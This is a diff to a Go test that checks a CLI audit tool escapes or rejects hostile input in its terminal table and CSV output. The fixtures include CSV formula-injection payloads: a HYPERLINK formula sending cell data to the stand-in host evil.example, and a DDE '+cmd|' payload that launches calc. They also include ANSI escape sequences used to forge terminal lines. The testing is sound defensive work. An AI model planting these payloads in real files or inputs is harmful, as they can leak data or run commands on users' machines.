@@ -34,19 +34,25 @@ func TestInputNeverReachesTheTerminalRaw(t *testing.T) {
 		t.Fatalf("registry load: %d %s", code, out)
 	}
 	code, out, errs := run(t, dir, nil, "", "ingest", name)
-	if code != exitFindings || !strings.Contains(out, "stored 2, duplicate 0, rejected 1") {
+	if code != exitFindings || !strings.Contains(out, "stored 2, duplicate 0, rejected 2") {
 		t.Fatalf("ingest: exit %d\n%s%s", code, out, errs)
 	}
 	raw("ingest's stderr", errs)
 	if want := `evil\x1b[31m\nname.jsonl:3: kind: unknown kind`; !strings.Contains(errs, want) {
 		t.Errorf("the rejection line does not name the file escaped (%s):\n%s", want, errs)
 	}
+	// an SP id with an escape sequence never gets in: ingest rejects a control character
+	// in an id (and the table would escape one: TestTableEscapesControls)
+	if want := `name.jsonl:4: sp: holds a control character`; !strings.Contains(errs, want) {
+		t.Errorf("the SP id with an escape was not rejected (%s):\n%s", want, errs)
+	}
 
 	_, table, errs := run(t, dir, nil, "", "audit", "--format", "table")
 	raw("the table", table+errs)
-	if want := `=HYPERLINK("http://evil.example/?"&A1,"x")\x1b[31m\nforged: line`; !strings.Contains(table, want) {
-		t.Errorf("the table does not show the SP id escaped:\n%s", table)
+	if want := `=HYPERLINK("http://evil.example/?"&A1,"x")`; !strings.Contains(table, want) {
+		t.Errorf("the table does not show the SP id:\n%s", table)
 	}
+
 
 	_, out, errs = run(t, dir, nil, "", "audit", "--format", "csv")
 	raw("the CSV", out+errs)
@@ -63,7 +69,7 @@ func TestInputNeverReachesTheTerminalRaw(t *testing.T) {
 			seen[cell] = true
 		}
 	}
-	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"x")\x1b[31m\nforged: line`, "'-2+3", "'@SUM(1)", "'+cmd|' /C calc'!A0", "'=1+1"} {
+	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'-2+3", "'@SUM(1)", "'+cmd|' /C calc'!A0", "'=1+1"} {
 		if !seen[want] {
 			t.Errorf("no cell %q in the CSV:\n%s", want, out)
 		}
